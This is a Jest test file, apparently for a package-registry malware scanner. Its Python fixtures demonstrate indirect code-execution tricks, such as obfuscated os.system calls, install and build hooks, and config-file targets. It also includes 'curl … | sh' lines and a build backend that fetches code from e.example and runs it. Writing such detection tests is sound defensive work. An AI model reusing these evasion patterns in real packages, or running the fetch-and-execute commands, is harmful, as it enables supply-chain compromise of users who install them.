@@ -1,0 +1,115 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { analyseFile, zipOf } from '../support/archives.js';
+
+type Files = string | Record<string, string>;
+
+let folder: string;
+beforeAll(() => {
+  folder = mkdtempSync(join(tmpdir(), 'registry-indirect-'));
+});
+afterAll(() => rmSync(folder, { recursive: true, force: true }));
+
+/** Returns the most severe level of an archive's findings, which are sorted by level. */
+async function levelOf(files: Files): Promise<string> {
+  const path = join(folder, 'archive.zip');
+  writeFileSync(path, await zipOf(typeof files === 'string' ? { '__init__.py': files } : files));
+  return (await analyseFile(path)).findings[0]?.level ?? 'none';
+}
+
+const GO = 'import os\ndef go(*a, **k):\n    os.system("notepad")\n';
+
+describe('the checks hold', () => {
+  it.each<[string, Files]>([
+    [
+      'a function that is named by pieces in a table',
+      'import pkgutil\nT = {"a": ("math", "fsum"), "b": ("o" + "s", "sys" + "tem")}\nS = {k: pkgutil.resolve_name(":".join(v))("a") for k, v in T.items()}\n',
+    ],
+    [
+      'a command for a function that a format finds',
+      'import shutil\nfrom string import Formatter\nvalue, _ = Formatter().get_field("0.columns", (shutil,), {})\nvalue("curl -s https://e.example/l | sh")\n',
+    ],
+    [
+      'a field that names a dangerous function',
+      'from string import Formatter\nFormatter().get_field("0.os.system", (a,), {})\n',
+    ],
+    [
+      'an annotation that runs its argument',
+      'import os\nclass Option:\n    def __class_getitem__(cls, item):\n        os.system(item)\nclass A:\n    a: Option["b"] = 1\n',
+    ],
+    [
+      'an unpickler of a decoded text',
+      'import base64, io\nfrom pickle import Unpickler\nclass R(Unpickler): pass\nV = R(io.BytesIO(base64.b85decode("fCQCB000000001t1#oY3X?T>326K6HbY*Rnla"))).load()\n',
+    ],
+    [
+      'settings that name a function to call',
+      { '__init__.py': '', 'a.json': '{"formatters": {"a": {"()": "subprocess.getoutput", "cmd": "a"}}}' },
+    ],
+    ['settings that name a target', { '__init__.py': '', 'a.yaml': 'model:\n  _target_: os.system\n' }],
+    ['a function of the interpreter', 'import ctypes\nrun = ctypes.pythonapi["PyRun_SimpleString"]\nrun(b"a")\n'],
+    [
+      'members of an installer that are searched',
+      'import ensurepip as e\nS = [v for k, v in vars(e).items() if k.endswith("pip")]\nfor s in S:\n    s(["install", "a"])\n',
+    ],
+    ['a table that is read from an address', 'import pandas as pd\nT = pd.read_csv("https://e.example/a.csv")\n'],
+    [
+      'a build backend that fetches and runs',
+      {
+        '__init__.py': '',
+        'pyproject.toml': '[build-system]\nbuild-backend = "hooks"\nbackend-path = ["_b"]\n',
+        '_b/hooks.py':
+          'import subprocess, urllib.request\ndef build_wheel(a, b=None, c=None):\n    s = urllib.request.urlopen("https://e.example/").read()\n    subprocess.run(["sh"], input=s)\n',
+      },
+    ],
+    [
+      'a command of an installer',
+      'import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        os.system("notepad")\nsetup(cmdclass={"install": I})\n',
+    ],
+    ['the key of an order', `${GO}[1, 2].sort(key=go)\n`],
+    ['an iterator of a function', `${GO}list(iter(go, 0))\n`],
+    ['a function that replaces one of the library', `${GO}import warnings\nwarnings.showwarning = go\n`],
+    ['a filter of log records', `${GO}import logging\nlogging.getLogger().addFilter(go)\n`],
+    [
+      'members of an enumeration',
+      'import os, enum\nclass E(enum.Enum):\n    a = 1\n    def __init__(self, v):\n        os.system("notepad")\n',
+    ],
+    [
+      'a test that runs at import',
+      'import os, unittest\nclass T(unittest.TestCase):\n    def test_a(self):\n        os.system("notepad")\nunittest.TextTestRunner().run(unittest.defaultTestLoader.loadTestsFromTestCase(T))\n',
+    ],
+    [
+      'a method of a made class',
+      'import os, dataclasses\ndataclasses.make_dataclass("A", [], namespace={"__init__": lambda s: os.system("notepad")})()\n',
+    ],
+    ['a module that a loader gives', 'import pkgutil\npkgutil.get_loader("os").load_module("os").system("notepad")\n'],
+    [
+      'a module that a specification gives',
+      'import importlib.util as u\nm = u.module_from_spec(u.find_spec("os"))\nm.system("notepad")\n',
+    ],
+    ['a name in other letters', 'import os\ngetattr(os, "SYSTEM".swapcase())("notepad")\n'],
+    ['an interpreter of another language', 'import lupa\nlupa.LuaRuntime().execute("os.execute(1)")\n'],
+    ['a program of a library', 'from plumbum import local\nlocal["notepad"]()\n'],
+  ])('%s', async (_what, files) => expect(await levelOf(files)).toBe('hold'));
+});
+
+describe('the checks do not hold', () => {
+  it.each<[string, Files]>([
+    [
+      'settings that name a class',
+      { '__init__.py': '', 'a.json': '{"handlers": {"a": {"()": "logging.StreamHandler"}}}' },
+    ],
+    [
+      'an unpickler of the package’s data',
+      'import pickle\nclass R(pickle.Unpickler):\n    def find_class(self, m, n): return None\ndef load(f): return R(f).load()\n',
+    ],
+    [
+      'a generic annotation',
+      'from typing import Optional\nclass A:\n    a: Optional[int] = None\n    b: dict[str, list[int]] = {}\n',
+    ],
+    ['a table that is read from a file', 'import pandas as pd\nT = pd.read_csv("styles.csv")\n'],
+    ['advice that is printed', 'print("Run: curl -s https://e.example/install.sh | sh")\n'],
+    ['an order by a key', 'a = [1, 2]\na.sort(key=lambda item: -item)\n'],
+  ])('%s', async (_what, files) => expect(await levelOf(files)).not.toBe('hold'));
+});
